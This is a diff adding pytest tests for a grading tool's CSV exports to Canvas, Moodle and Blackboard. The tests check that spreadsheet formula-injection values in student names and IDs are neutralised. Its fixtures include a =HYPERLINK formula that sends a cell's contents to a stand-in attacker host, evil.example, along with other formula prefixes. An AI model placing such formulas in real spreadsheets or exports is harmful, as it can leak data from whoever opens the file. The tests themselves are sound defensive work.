@@ -11,15 +11,18 @@ import io
 import json
 from datetime import UTC, datetime, timedelta, timezone
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 from pydantic import ValidationError
 
 from gradelab.config import LatePolicy, LmsSettings
+from gradelab.publish.csvfiles import spreadsheet_text
 from gradelab.publish.exports import export, load_results
 from gradelab.publish.late import apply_late, assess
 from gradelab.boundary.records import LateInfo, QuestionScore, SubmissionResult
 from gradelab.boundary.records import TestOutcome as Outcome  # a Test* name would be collected by pytest
+from gradelab.publish.review import read_review_sheet, write_review_sheet
 from gradelab.publish.roster import RosterEntry, load_roster, match
 
 from lms_import_rules import blackboard_import, canvas_import, moodle_import, parse_canvas
@@ -638,3 +641,92 @@ def test_blackboard_importer_rejects_unquoted_values_and_missing_usernames() -> 
         blackboard_import('"Last Name","First Name","Username","HW3"\r\n"Doe","Jane",jdoe,"5"\r\n')
     with pytest.raises(ValueError, match="without a username"):
         blackboard_import('"Last Name","First Name","Username","HW3"\r\n"Doe","Jane","","5"\r\n')
+
+
+# ---------------------------------------------------------------- formula injection
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1,2)", "@cmd", "-2+3", "\tTab", "\rCR"]
+
+
+def csv_cells(path: Path) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+
+
+def hostile_roster() -> list[RosterEntry]:
+    """Roster names and ids that a spreadsheet would run, beside a harmless student."""
+    entries = [
+        RosterEntry(name=formula, sortable_name=formula, canvas_id=f"100{n}", sis_user_id=f"-S{n}",
+                    sis_login_id=f"user{n}", section="@Sec", email=f"s{n}@uni.example", id_number=f"=ID{n}")
+        for n, formula in enumerate(FORMULAS, start=1)
+    ]
+    return [*entries, student(9, "Jane Doe", "Doe, Jane", "jdoe", "Sec B", "jane.doe@uni.example")]
+
+
+def hostile_results() -> list[SubmissionResult]:
+    return [make_result(f"100{n}", f"s{n}.ipynb", [10, 5]) for n in range(1, len(FORMULAS) + 1)] + [
+        make_result("1009", "jane.ipynb", [10, 10]), make_result("-cmd", "-cmd.ipynb", [1, 2]),
+    ]
+
+
+@pytest.mark.parametrize("cell, written", [
+    *[(formula, "'" + formula) for formula in FORMULAS],
+    ("-7", "-7"), ("-0.5", "-0.5"), ("12.25", "12.25"),  # numbers stay numbers
+    ("-", "'-"), ("-cmd", "'-cmd"), ("-1-1", "'-1-1"),  # text with a leading "-"
+    ("", ""), ("Ødegård, Åse", "Ødegård, Åse"), ("a=b", "a=b"), ("'quoted", "'quoted"),
+])
+def test_spreadsheet_text_neutralises_formula_prefixes_only(cell: str, written: str) -> None:
+    assert spreadsheet_text(cell) == written
+
+
+def test_canvas_export_neutralises_text_cells_and_still_imports(tmp_path: Path) -> None:
+    out = tmp_path / "canvas.csv"
+    report = export(hostile_results(), target="canvas", out=out, settings=SETTINGS, roster=hostile_roster())
+
+    rows = {row[1]: row for row in csv_cells(out)[2:]}
+    for n, formula in enumerate(FORMULAS, start=1):
+        assert rows[f"100{n}"][:5] == ["'" + formula, f"100{n}", f"'-S{n}", f"user{n}", "'@Sec"]
+        assert rows[f"100{n}"][5] == "15"  # a score is a number, not text
+    assert canvas_import(read(out)) == {f"100{n}": 15.0 for n in range(1, 7)} | {"1009": 20.0}
+    assert [r.student_id for r in report.unmatched_submissions] == ["-cmd"]
+
+
+def test_moodle_export_leaves_out_a_row_whose_identifier_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    settings = SETTINGS.model_copy(update={"moodle_identifier": "id_number"})
+    out = tmp_path / "moodle.csv"
+    report = export(hostile_results(), target="moodle", out=out, settings=settings, roster=hostile_roster())
+
+    # Quoted with an apostrophe, the ID number would match nobody and Moodle would abort the whole import.
+    assert len(report.errors) == len(FORMULAS) and all("enter this grade by hand" in e for e in report.errors)
+    grades = moodle_import(read(out), "ID number", "useridnumber", {"2025009"}, grade_column=SETTINGS.assignment_title)
+    assert {number: grade.grade for number, grade in grades.items()} == {"2025009": 20.0}
+
+
+def test_plain_and_blackboard_exports_neutralise_names_and_ids(tmp_path: Path) -> None:
+    plain, board = tmp_path / "grades.csv", tmp_path / "bb.csv"
+    export(hostile_results(), target="csv", out=plain, settings=SETTINGS, roster=hostile_roster(),
+           question_ids=QUESTION_IDS[:2])
+    export(hostile_results(), target="blackboard", out=board, settings=SETTINGS, roster=hostile_roster())
+
+    names = {row[0]: row[1] for row in csv_cells(plain)[1:]}
+    assert names == {f"100{n}": "'" + formula for n, formula in enumerate(FORMULAS, start=1)} | {
+        "1009": "Jane Doe", "'-cmd": ""}
+    assert csv_cells(plain)[-1][3:9] == ["1", "2", "3", "0", "3", "20"]  # numbers as they were
+    parsed = blackboard_import(read(board))
+    assert parsed.rows["user1"].student_id == "'-S1" and parsed.rows["jdoe"].scores == [20.0]
+
+
+def test_review_sheet_is_neutralised_and_reads_back_as_written(tmp_path: Path) -> None:
+    question = SimpleNamespace(id="q2_1", title="Why", kind="manual", points=0.0, manual_points=2.0, rubric="")
+    results = [make_result("-cmd", "-cmd.ipynb", [1]), make_result("1001", "a.ipynb", [1])]
+    [_, sheet] = write_review_sheet(results, [question], answers={}, out_dir=tmp_path)
+    rows = csv_cells(sheet)
+    assert [row[0] for row in rows[1:]] == ["'-cmd", "1001"]
+    rows[1][3:5] = ["1.5", '=HYPERLINK("http://evil.example")']  # the instructor fills in the sheet
+    with sheet.open("w", encoding="utf-8-sig", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+
+    [score] = read_review_sheet(sheet)
+    assert (score.student_id, score.points, score.comment) == ("-cmd", 1.5, '=HYPERLINK("http://evil.example")')
+    write_review_sheet(results, [question], answers={}, out_dir=tmp_path)  # rewritten: entries kept, neutralised
+    assert csv_cells(sheet)[1] == ["'-cmd", "q2_1", "2", "1.5", "'=HYPERLINK(\"http://evil.example\")"]
